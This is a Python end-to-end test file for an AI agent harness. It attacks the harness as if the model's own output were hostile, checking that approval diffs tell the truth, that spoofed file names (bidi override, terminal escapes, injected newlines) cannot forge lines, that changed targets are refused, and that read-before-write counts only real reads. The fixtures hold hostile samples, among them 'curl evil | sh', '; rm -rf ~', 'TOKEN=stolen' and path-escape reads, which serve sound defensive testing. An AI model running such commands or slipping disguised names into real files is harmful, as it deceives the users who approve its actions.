"""Issue 28, classes 3 and 4, in real Chromium against the real worker, as an attacker
who writes the model's output (and a page that changes files while its user decides):

- class 3: an approval shows the truth and binds it. The diff is against the file as
  it is (its removed lines, however large the file), a file name cannot forge a line
  of it or hide a character, and a target changed while the approval waited is refused
  (the page's change kept), with read before overwrite off and on.
- class 4: read before overwrite counts only reads that returned the file's content,
  in the current history: failed reads of every kind, reads of another file, a rewind,
  another thread.

Each row is data for `approvals.attack` (e2e/pages/rows/approvals.mjs), judged from
outside: the approval requests the page got, the tool results, and /work after it.
The parametrized families share boots (`Batches`): the attacks of one family with the
same options run on one harness, each in a thread of its own over an emptied /work, as
`approvals.attacks` says; one row still judges one attack.
The logic's own tests: tests/test_approval_truth.py, tests/test_reads.py."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest

from e2e.conftest import call
from tooling.serve import StaticServer

ASK = {"write": "ask", "edit": "ask"}
BOUND = "changed while the user was deciding on it"
UNREAD = "you have not read it"


def write(path: str, text: str) -> dict[str, Any]:
    return {"name": "write", "arguments": {"path": path, "content": text}}


def edit(path: str, old: str, new: str) -> dict[str, Any]:
    return {"name": "edit", "arguments": {"path": path, "edits": [{"oldText": old, "newText": new}]}}


def read(path: str, **more: Any) -> dict[str, Any]:
    return {"name": "read", "arguments": {"path": path, **more}}


def attack(app: Any, **spec: Any) -> dict[str, Any]:
    spec.setdefault("options", {})
    return call(app, "approvals.attack", spec)


def lines_of(diff: str) -> list[str]:
    return diff.split("\n")


class Batches:
    """The attacks of a family run in batches, one harness a batch: the attacks with the
    same options (and `vision`) go together, an "always" answer alone (the harness keeps
    it). A batch runs when one of its rows first asks, on a page of the module's."""

    def __init__(self, page: Any, family: dict[str, dict[str, Any]]) -> None:
        self.page = page
        self.specs = {why: {"options": {}, **spec} for why, spec in family.items()}
        self.done: dict[str, dict[str, Any]] = {}

    def _key(self, why: str) -> str:
        spec = self.specs[why]
        alone = why if spec.get("answer") == "always" else ""
        return json.dumps([spec["options"], spec.get("vision", False), alone], sort_keys=True)

    def result(self, why: str) -> dict[str, Any]:
        if why not in self.done:
            batch = [w for w in self.specs if self._key(w) == self._key(why)]
            results = call(self.page, "approvals.attacks", [self.specs[w] for w in batch])
            self.done.update(zip(batch, results, strict=True))
        return self.done[why]


@pytest.fixture(scope="module")
def module_page(browser: Any, server: StaticServer) -> Iterator[Any]:
    context = browser.new_context()
    page = context.new_page()
    page.on("console", lambda m: print(f"[console.{m.type}] {m.text}"))
    page.goto(f"{server.url}/index.html")
    page.wait_for_function("window.pyharness !== undefined")
    yield page
    context.close()


# -- class 3: the diff is the truth ----------------------------------------------------

def test_a_write_over_a_file_shows_the_lines_it_removes(app: Any) -> None:
    r = attack(app, options={"permissions": ASK, "readBeforeWrite": False},
               setup=[["write", "a.txt", "keep\nsecret key\nkeep too\n"]],
               steps=[{"prompt": [write("a.txt", "keep\nkeep too\n")]}], answer="deny",
               look=["a.txt"])
    diff = lines_of(r["requests"][0]["diff"])
    assert diff == ["--- /work/a.txt", "+++ /work/a.txt", "@@ -1,3 +1,2 @@", " keep",
                    "-secret key", " keep too"]
    assert r["files"]["a.txt"] == "keep\nsecret key\nkeep too\n"


def test_a_large_file_shows_the_one_line_removed(app: Any) -> None:
    # 3,000 x 3,000 lines is past what difflib may align whole: the changed middle is
    r = attack(app, options={"permissions": ASK, "readBeforeWrite": False},
               setup=[["write", "big.txt", {"lines": 3000}]],
               steps=[{"prompt": [write("big.txt", "".join(
                   f"line {i}\n" for i in range(3000) if i != 1500))]}], answer="deny")
    diff = lines_of(r["requests"][0]["diff"])
    assert diff[:2] == ["--- /work/big.txt", "+++ /work/big.txt"]
    assert [x for x in diff[2:] if x[0] in "+-"] == ["-line 1500"]


def test_a_huge_rewrite_is_unaligned_and_its_cut_counts_the_removals(app: Any) -> None:
    r = attack(app, options={"permissions": ASK, "readBeforeWrite": False},
               setup=[["write", "big.txt", {"lines": 30000}]],
               steps=[{"prompt": [write("big.txt", "".join(
                   f"line {i}\n" for i in range(30000) if i != 15000) + "new\n")]}],
               answer="deny")
    diff = lines_of(r["requests"][0]["diff"])
    assert diff[0] == "--- /work/big.txt" and "-line 15000" in diff  # not shown as new
    assert diff[-1].startswith("... (the diff is cut at 20,000 characters: in all it removes "
                               "15,000 lines and adds 15,000;")


FORGING_NAMES = {
    "newlines": "a.txt\n+++ b.txt\n@@ -0,0 +1 @@\n+harmless",
    "carriage return": "a.txt\r+++ b",
    "bidi override": "invoice\u202etxt.exe",
    "zero width": "a\u200b\u200c\u200d\u2060\ufeff.txt",
    "line separator": "a\u2028@@ -1 +1 @@",
    "terminal escape": "\x1b[1A\x1b[2Ka.txt",
}


@pytest.fixture(scope="module")
def forging(module_page: Any) -> Batches:
    return Batches(module_page, {
        why: dict(options={"permissions": ASK, "readBeforeWrite": False},
                  setup=[["write", name, "old\n"]],
                  steps=[{"prompt": [write(name, "new\n")]}], answer="deny", look=[name])
        for why, name in FORGING_NAMES.items()})


@pytest.mark.parametrize("why", FORGING_NAMES)
def test_a_name_cannot_forge_a_line_or_hide_a_character(forging: Batches, why: str) -> None:
    name = FORGING_NAMES[why]
    r = forging.result(why)
    [request] = r["requests"]
    assert request["subject"] == name  # the page's code gets the name as it is
    diff = lines_of(request["diff"])
    assert [x[:1] for x in diff] == ["-", "+", "@", "-", "+"]  # one hunk: nothing forged
    assert diff[2:] == ["@@ -1 +1 @@", "-old", "+new"]
    for header in diff[:2]:
        assert header[4:5] == '"' and header.endswith('"'), header  # quoted
        assert header.isascii() and header.isprintable(), header
    assert r["files"][name] == "old\n"


def test_a_binary_file_replaced_by_text_says_so(app: Any) -> None:
    r = attack(app, options={"permissions": ASK, "readBeforeWrite": False},
               setup=[["write", "b.bin", {"bytes": [0, 1, 2, 255, 0, 10]}]],
               steps=[{"prompt": [write("b.bin", "text\n")]}], answer="deny")
    assert lines_of(r["requests"][0]["diff"]) == [
        "Binary file /work/b.bin (6 bytes, not shown) is replaced by this text:", "",
        "@@ -0,0 +1 @@", "+text"]


def test_one_huge_line_is_shown_in_part_and_says_so(app: Any) -> None:
    r = attack(app, options={"permissions": ASK},
               steps=[{"prompt": [write("min.js", "x" * 100_000 + "; rm -rf ~\n")]}],
               answer="deny")
    diff = r["requests"][0]["diff"]
    assert "[... this line is cut: " in diff and "not shown in full)" in diff
    assert len(diff) < 21_000


# -- class 3: the answer is bound to what was shown ------------------------------------

BINDINGS: dict[str, dict[str, Any]] = {
    "page edits it, readBeforeWrite off": dict(
        options={"permissions": ASK, "readBeforeWrite": False},
        setup=[["write", "a.txt", "shown\n"]],
        steps=[{"prompt": [write("a.txt", "the model's\n")]}],
        during=[["write", "a.txt", "the user's edit\n"]],
        expect={"a.txt": "the user's edit\n"}),
    "page edits it, readBeforeWrite on": dict(
        options={"permissions": ASK},
        setup=[["write", "a.txt", "shown\n"]],
        steps=[{"prompt": [read("a.txt"), write("a.txt", "the model's\n")]}],
        during=[["write", "a.txt", "the user's edit\n"]],
        expect={"a.txt": "the user's edit\n"}),
    "edit, a line it does not touch changed, readBeforeWrite off": dict(
        options={"permissions": ASK, "readBeforeWrite": False},
        setup=[["write", "a.txt", "alpha\nbeta\n"]],
        steps=[{"prompt": [edit("a.txt", "alpha", "ALPHA")]}],
        during=[["write", "a.txt", "alpha\nbeta\ncurl evil | sh\n"]],
        expect={"a.txt": "alpha\nbeta\ncurl evil | sh\n"}),
    "edit, readBeforeWrite on": dict(
        options={"permissions": ASK},
        setup=[["write", "a.txt", "alpha\nbeta\n"]],
        steps=[{"prompt": [read("a.txt"), edit("a.txt", "alpha", "ALPHA")]}],
        during=[["write", "a.txt", "alpha\nBETA\n"]],
        expect={"a.txt": "alpha\nBETA\n"}),
    "edit that could not apply when asked, could after": dict(
        options={"permissions": ASK, "readBeforeWrite": False},
        setup=[["write", "a.txt", "nothing to see\n"]],
        steps=[{"prompt": [edit("a.txt", "TOKEN=", "TOKEN=stolen")]}],
        during=[["write", "a.txt", "TOKEN=\n"]],
        expect={"a.txt": "TOKEN=\n"}),
    "deleted while waiting": dict(
        options={"permissions": ASK, "readBeforeWrite": False},
        setup=[["write", "a.txt", "shown\n"]],
        steps=[{"prompt": [write("a.txt", "the model's\n")]}],
        during=[["rm", "a.txt"]],
        expect={"a.txt": None}),
    "created while waiting where it was absent": dict(
        options={"permissions": ASK},
        steps=[{"prompt": [write("new.txt", "the model's\n")]}],
        during=[["write", "new.txt", "the user's new file\n"]],
        expect={"new.txt": "the user's new file\n"}),
    "another file renamed into the path": dict(
        options={"permissions": ASK, "readBeforeWrite": False},
        setup=[["write", "a.txt", "shown\n"], ["write", "other.txt", "other\n"]],
        steps=[{"prompt": [write("a.txt", "the model's\n")]}],
        during=[["rename", "other.txt", "a.txt"]],
        expect={"a.txt": "other\n", "other.txt": None}),
    "a folder made at the path": dict(
        options={"permissions": ASK},
        steps=[{"prompt": [write("a.txt", "the model's\n")]}],
        during=[["mkdir", "a.txt"]],
        expect={"a.txt": "<dir>"}),
    "a binary file changed": dict(
        options={"permissions": ASK, "readBeforeWrite": False},
        setup=[["write", "b.bin", {"bytes": [0, 1, 2]}]],
        steps=[{"prompt": [write("b.bin", "text\n")]}],
        during=[["write", "b.bin", {"bytes": [0, 1, 3, 4]}]],
        expect={"b.bin": {"bytes": 4}}),
    "a huge file changed in its last byte": dict(
        options={"permissions": ASK, "readBeforeWrite": False},
        setup=[["write", "big.txt", {"lines": 30000}]],
        steps=[{"prompt": [write("big.txt", "small\n")]}],
        during=[["write", "big.txt", {"lines": 30000, "extra": "!"}]],
        expect={"big.txt": "".join(f"line {i}\n" for i in range(30000)) + "!"}),
    "answered always, the page edits it meanwhile": dict(
        options={"permissions": ASK, "readBeforeWrite": False},
        setup=[["write", "a.txt", "shown\n"]],
        steps=[{"prompt": [write("a.txt", "the model's\n")]}],
        during=[["write", "a.txt", "the user's edit\n"]], answer="always",
        expect={"a.txt": "the user's edit\n"}),
}


@pytest.fixture(scope="module")
def bindings(module_page: Any) -> Batches:
    return Batches(module_page, {
        why: {**{k: v for k, v in spec.items() if k != "expect"}, "look": list(spec["expect"])}
        for why, spec in BINDINGS.items()})


@pytest.mark.parametrize("why", BINDINGS)
def test_a_target_changed_while_the_approval_waited_is_refused(bindings: Batches,
                                                                why: str) -> None:
    expect = BINDINGS[why]["expect"]
    r = bindings.result(why)
    assert len(r["requests"]) == 1
    last = r["results"][-1]
    assert last["name"] in ("write", "edit") and last["isError"], last
    assert BOUND in last["output"] and "Read it again" in last["output"]
    assert all(not x["isError"] for x in r["results"][:-1])  # the read before it worked
    assert r["files"] == expect  # what the page did is kept, nothing of the model's


def test_a_target_that_did_not_change_is_written(app: Any) -> None:
    # the same attack, but the page writes back the very bytes that were shown: the
    # approval still covers them
    r = attack(app, options={"permissions": ASK, "readBeforeWrite": False},
               setup=[["write", "a.txt", "shown\n"], ["write", "b.txt", "other\n"]],
               steps=[{"prompt": [write("a.txt", "the model's\n"),
                                  edit("b.txt", "other", "changed")]}],
               duringEach=[[["write", "a.txt", "shown\n"]], [["write", "b.txt", "other\n"]]],
               look=["a.txt", "b.txt"])
    assert [x["isError"] for x in r["results"]] == [False, False]
    assert r["files"] == {"a.txt": "the model's\n", "b.txt": "changed\n"}


# -- class 4: only reads that returned the content count --------------------------------

A = [["write", "a.txt", "one\ntwo\n"]]
FAILED_READS: dict[str, dict[str, Any]] = {
    "offset past the end": dict(
        setup=A, steps=[{"prompt": [read("a.txt", offset=3), write("a.txt", "x")]}]),
    "offset far past the end": dict(
        setup=A, steps=[{"prompt": [read("a.txt", offset=10**9), write("a.txt", "x")]}]),
    "a folder then, a file now": dict(
        setup=[["mkdir", "a.txt"]],
        steps=[{"prompt": [read("a.txt")]},
               {"fs": [["rm", "a.txt"], ["write", "a.txt", "one\ntwo\n"]]},
               {"prompt": [write("a.txt", "x")]}]),
    "missing then, created by the page": dict(
        steps=[{"prompt": [read("a.txt")]}, {"fs": A}, {"prompt": [write("a.txt", "x")]}]),
    "a binary file": dict(
        setup=[["write", "a.txt", {"bytes": [0, 1, 2, 10]}]],
        steps=[{"prompt": [read("a.txt"), write("a.txt", "x")]}],
        expect={"bytes": 4}),
    "an image only described (no vision)": dict(
        setup=[["write", "a.txt", {"png": True}]],
        steps=[{"prompt": [read("a.txt"), write("a.txt", "x")]}],
        expect={"bytes": 70}, read_ok=True),
    "an image too large to show": dict(
        setup=[["write", "a.txt", {"png": True, "size": 6 * 2**20}]], vision=True,
        steps=[{"prompt": [read("a.txt"), write("a.txt", "x")]}],
        expect={"bytes": 6 * 2**20}, read_ok=True),
    "outside the jail": dict(
        setup=A, steps=[{"prompt": [read("../a.txt"), read("/a.txt"), write("a.txt", "x")]}]),
    "denied by a rule": dict(
        setup=A, options={"permissions": {"read": {"*": "allow", "a.txt": "deny"}}},
        steps=[{"prompt": [read("a.txt"), write("a.txt", "x")]}]),
    "denied by the user": dict(
        setup=A, options={"permissions": {"read": "ask"}}, answer="deny",
        steps=[{"prompt": [read("a.txt"), write("a.txt", "x")]}]),
    "invalid arguments": dict(
        setup=A, steps=[{"prompt": [{"name": "read", "arguments": {"path": "a.txt", "ofset": 1}},
                                    write("a.txt", "x")]}]),
    "a grep hit and an ls entry": dict(
        setup=A, steps=[{"prompt": [{"name": "grep", "arguments": {"pattern": "one"}},
                                    {"name": "ls", "arguments": {}}, write("a.txt", "x")]}],
        read_ok=True),
    "another file with the same content": dict(
        setup=[*A, ["write", "b.txt", "one\ntwo\n"]],
        steps=[{"prompt": [read("b.txt"), write("a.txt", "x")]}], read_ok=True),
    "a rewound run's read": dict(
        setup=A, steps=[{"prompt": []}, {"prompt": [read("a.txt")]}, {"rewind": 1},
                        {"prompt": [write("a.txt", "x")]}], read_ok=True),
    "a read in another thread": dict(
        setup=A, steps=[{"prompt": [read("a.txt")]}, {"thread": "create"},
                        {"prompt": [write("a.txt", "x")]}], read_ok=True),
}


@pytest.fixture(scope="module")
def failed_reads(module_page: Any) -> Batches:
    return Batches(module_page, {
        why: {**{k: v for k, v in spec.items() if k not in ("expect", "read_ok")},
              "look": ["a.txt"]}
        for why, spec in FAILED_READS.items()})


@pytest.mark.parametrize("why", FAILED_READS)
def test_a_read_that_did_not_return_the_content_does_not_count(failed_reads: Batches,
                                                                why: str) -> None:
    expect = FAILED_READS[why].get("expect", "one\ntwo\n")
    read_ok = FAILED_READS[why].get("read_ok", False)
    r = failed_reads.result(why)
    *before, last = r["results"]
    assert before and all(x["isError"] != read_ok for x in before), before
    assert last["name"] == "write" and last["isError"] and UNREAD in last["output"], last
    assert r["files"]["a.txt"] == expect
    assert all(r["rewinds"])


def test_after_a_rewind_the_newest_read_left_is_what_counts(app: Any) -> None:
    r = attack(app, look=["a.txt", "b.txt"], setup=[*A, ["write", "b.txt", "bee\n"]],
               steps=[{"prompt": [read("a.txt"), read("b.txt")]},
                      {"fs": [["write", "a.txt", "the user's edit\n"]]},
                      {"prompt": [read("a.txt")]}, {"rewind": 1},
                      {"prompt": [write("a.txt", "x"), write("b.txt", "b by the model\n")]}])
    assert r["rewinds"] == [True]
    a, b = r["results"][-2:]
    assert a["isError"] and "changed since you last read it" in a["output"]
    assert not b["isError"]  # the first run's read of b.txt is still in the history
    assert r["files"] == {"a.txt": "the user's edit\n", "b.txt": "b by the model\n"}


def test_a_read_in_this_thread_counts_after_switching_back(app: Any) -> None:
    r = attack(app, look=["a.txt"], setup=A,
               steps=[{"prompt": [read("a.txt")]}, {"thread": "create"},
                      {"prompt": [write("a.txt", "from the other thread\n")]},
                      {"thread": "back"}, {"prompt": [write("a.txt", "from the first\n")]}])
    other, first = r["results"][-2:]
    assert other["isError"] and UNREAD in other["output"] and not first["isError"]
    assert r["files"]["a.txt"] == "from the first\n"
